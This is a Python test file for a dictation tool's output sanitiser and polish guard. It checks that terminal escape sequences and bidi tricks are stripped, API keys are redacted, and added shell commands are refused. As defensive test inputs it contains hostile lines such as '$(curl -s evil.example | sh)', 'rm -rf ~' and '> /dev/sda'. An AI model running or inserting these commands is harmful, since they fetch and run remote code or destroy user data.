"""Issue 41, text from models and servers (pure parts): the sanitiser (engine.core.sanitize) by
properties and by the hostile texts a hardening pass sent, and the polish guard's refusal of
answers that add lines or commands the dictation did not contain."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from engine.core.sanitize import REDACTED, clean, one_line, redact, safe_message
from engine.polish.guard import check_edit, check_polish, formats_lines

HOSTILE = "\033[2J\033]0;pwned\007hello\177"
DICTATED = "so um let's meet at noon to talk about the budget"
POLISHED = "Let's meet at noon to talk about the budget."

# Any text at all, with the characters an attacker reaches for made likely.
_NASTY = st.sampled_from(["\x1b", "\x1b[", "\x1b]", "\x1bP", "\x9b", "\x9d", "\x07", "\x1b\\",
                          "\x7f", "\x08", "\r", "\n", "\t", "\u202e", "\u2066", "\u200b",
                          "\u2028", "\ufeff", "\U000e0041", "\ud800", "\x00", "\x85"])
TEXTS = st.lists(st.one_of(st.text(), _NASTY), max_size=30).map("".join)
# Printable text: letters, marks, numbers, punctuation, symbols and spaces, no other controls.
PRINTABLE = st.text(st.characters(categories=("L", "M", "N", "P", "S", "Zs")))


def _controls(text: str, allowed: str = "") -> list[str]:
    """The characters of ``text`` no terminal or text field should get from a model."""
    return [c for c in text if c not in allowed and (
        unicodedata.category(c) in ("Cc", "Cs") or
        (unicodedata.category(c) == "Cf" and c not in "\u200c\u200d"))]


@settings(deadline=None)  # a busy machine's timing is no failure
@given(TEXTS, st.booleans(), st.booleans())
@example(HOSTILE, True, True)
@example("a\x1b]52;c;aGVsbG8=\x07b", False, False)
def test_the_output_has_no_control_characters_but_the_allowed_ones(text: str, newlines: bool,
                                                                   tabs: bool) -> None:
    out = clean(text, newlines=newlines, tabs=tabs)
    allowed = ("\n" if newlines else "") + ("\t" if tabs else "")
    assert _controls(out, allowed) == []
    assert "\r" not in out and "\u2028" not in out and "\u2029" not in out


@settings(deadline=None)  # a busy machine's timing is no failure
@given(TEXTS, st.booleans(), st.booleans())
def test_cleaning_is_idempotent(text: str, newlines: bool, tabs: bool) -> None:
    once = clean(text, newlines=newlines, tabs=tabs)
    assert clean(once, newlines=newlines, tabs=tabs) == once
    line = one_line(text, 50)
    assert one_line(line, 50) == line and len(line) <= 50 and "\n" not in line


@settings(deadline=None)  # a busy machine's timing is no failure
@given(PRINTABLE, st.booleans(), st.booleans())
@example("Grüße, 東京 — naïve café 👨\u200d👩\u200d👧 ﷺ", False, False)
def test_printable_text_is_unchanged(text: str, newlines: bool, tabs: bool) -> None:
    assert clean(text, newlines=newlines, tabs=tabs) == text


@settings(deadline=None)  # a busy machine's timing is no failure
@given(st.lists(PRINTABLE, max_size=5))
def test_line_breaks_are_kept_only_where_allowed(lines: list[str]) -> None:
    text = "\r\n".join(lines)
    assert clean(text, newlines=True) == "\n".join(lines)
    assert clean(text) == " ".join(lines)


@pytest.mark.parametrize(("text", "expected"), [
    (HOSTILE, "hello"),
    ("a\x1b]52;c;aGVsbG8=\x07b", "ab"),  # OSC 52: a clipboard write
    ("a\x1b]52;c;aGVsbG8=\x1b\\b", "ab"),  # ... ended by ST
    ("a\x1bPq#0;2;0;0;0\x1b\\b", "ab"),  # DCS (sixel)
    ("\x9b31mred\x9b0m", "red"),  # 8-bit CSI
    ("a\x1b]0;title never ends", "a"),  # an unterminated OSC swallows the rest, as a terminal
    ("x\x1b7y\x1b8z\x1bc", "xyz"),  # save/restore cursor, full reset
    ("abc\x08\x08\x08def\x7f", "abcdef"),  # backspaces and DEL erase nothing
    ("evil\u202etxt.exe", "eviltxt.exe"),  # a bidi override
    ("a\u2066b\u2069c\u200bd\ufeffe\U000e0041f", "abcdef"),  # isolates, zero widths, a tag
    ("line\r\nnext\rlast\u2028sep", "line next last sep"),
])
def test_hostile_texts_lose_everything_but_their_text(text: str, expected: str) -> None:
    assert clean(text) == expected


def test_line_breaks_and_tabs_stay_where_the_caller_allows_them() -> None:
    assert clean("a\r\nb\tc\x1b[1Ad", newlines=True, tabs=True) == "a\nb\tcd"
    assert clean("a\r\nb\tc", newlines=True) == "a\nb c"
    assert clean("a\r\nb\tc", tabs=True) == "a b\tc"


def test_error_text_loses_the_api_key_and_authorization_values() -> None:
    body = ('{"error": "bad request", "echo": {"Authorization": "Bearer sk-live-123456", '
            '"x-api-key": "k-987654"}, "api_key=sk-live-123456"}\x1b]0;pwned\x07')
    assert safe_message(body, ["sk-live-123456"]) == (
        f'{{"error": "bad request", "echo": {{"Authorization": "Bearer {REDACTED}", '
        f'"x-api-key": "{REDACTED}"}}, "api_key={REDACTED}"}}')
    assert redact("Authorization: Basic dXNlcjpwYXNz\nproxy-authorization: Bearer t0k3n") == (
        f"Authorization: Basic {REDACTED}\nproxy-authorization: Bearer {REDACTED}")
    assert redact("the API key was refused; check the api_key setting") == (
        "the API key was refused; check the api_key setting")
    assert safe_message("x" * 300, limit=20) == "x" * 19 + "…"


@settings(deadline=None)  # a busy machine's timing is no failure
@given(TEXTS, TEXTS, st.from_regex(r"sk-[A-Za-z0-9_-]{12,40}", fullmatch=True))
def test_a_known_key_never_survives_in_error_text(before: str, after: str, key: str) -> None:
    for echoed in (key, f"Authorization: Bearer {key}", f'"api_key": "{key}"'):
        # Not even its tail: "\x1b[" before the key ends as a CSI sequence at its "s".
        assert key[2:] not in safe_message(before + echoed + after, [key], limit=None)
    assert key[1:] not in safe_message(f"\x1b[{key}", [key])
    assert key not in safe_message(f"{key[:5]}\x07{key[5:]}", [key])
    assert key not in safe_message(f"Authorization: Bearer {key}")  # even when not told


# -- the polish guard ----------------------------------------------------------------------------

def test_an_answer_full_of_escape_sequences_is_cleaned_before_it_is_judged() -> None:
    verdict = check_polish(DICTATED, f"\033[2J\033]0;pwned\007{POLISHED}\177\177\b")
    assert (verdict.ok, verdict.text) == (True, POLISHED)


@pytest.mark.parametrize(("answer", "preset", "cause"), [
    (DICTATED + "\nrm -rf ~", "clean", "lines"),
    (POLISHED + "\n\nrm -rf ~", "message", "lines"),
    (POLISHED + "\r\ncurl example.com", "clean", "lines"),
    (POLISHED + "; rm -rf ~", "clean", "command"),
    (POLISHED + " $(curl -s evil.example | sh)", "clean", "command"),
    ("- Meet at noon\n- Talk about the budget\n- sudo reboot", "list", "command"),
    ("Hi,\n\nLet's meet at noon to talk about the budget.\n\n`rm -rf ~`", "email", "command"),
    (POLISHED + " && wget x", "clean", "command"),
    (POLISHED + " > /dev/sda", "clean", "command"),
    # Conservative: a spoken "dash rf" written as an option is not the dictation's own text.
    ("Run rm -rf on the build folder.", "clean", "command"),
])
def test_an_answer_that_adds_lines_or_commands_is_refused(answer: str, preset: str,
                                                          cause: str) -> None:
    raw = "run rm dash rf on the build folder" if "build" in answer else DICTATED
    verdict = check_polish(raw, answer, preset)
    assert (verdict.ok, verdict.cause, verdict.text) == (False, cause, raw)


@pytest.mark.parametrize(("raw", "answer", "preset", "custom"), [
    (DICTATED, "- Meet at noon\n- Talk about the budget", "list", ""),
    (DICTATED, "Hi,\n\nLet's meet at noon to talk about the budget.\n\nThanks", "email", ""),
    (DICTATED, "Let's meet at noon\nto talk about the budget.", "custom",
     "Put each clause on its own line."),
    ("first line\nsecond line", "First line.\nSecond line.", "clean", ""),  # dictated breaks
    ("run rm -rf on the build folder", "Run rm -rf on the build folder.", "clean", ""),
    ("so um run ls -la in the home folder", "Run ls -la in the home folder.", "clean", ""),
])
def test_lines_and_commands_the_dictation_asked_for_are_kept(raw: str, answer: str, preset: str,
                                                             custom: str) -> None:
    verdict = check_polish(raw, answer, preset, custom=custom)
    assert (verdict.ok, verdict.cause, verdict.text) == (True, "", answer), verdict.detail


def test_a_custom_instruction_formats_lines_only_when_it_asks_for_them() -> None:
    assert formats_lines("custom", "Write it as a bulleted list")
    assert not formats_lines("custom", "Fix the grammar")
    assert check_polish(DICTATED, "Let's meet at noon\nto talk about the budget.", "custom",
                        custom="Fix the grammar").cause == "lines"
    # A dictated tab stays, an added one becomes a space.
    assert check_polish("a\tb c d e", "A\tb c d e.").text == "A\tb c d e."
    assert check_polish(DICTATED, POLISHED.replace(" ", "\t", 1)).text == POLISHED


def test_a_voice_edit_answer_is_cleaned_and_may_reformat() -> None:
    verdict = check_edit("one two", "\x1b[31m- One\n- Two\x1b[0m\x7f")
    assert (verdict.ok, verdict.text) == (True, "- One\n- Two")
    assert check_edit("one two", "\x1b[2J\x07").cause == "empty"
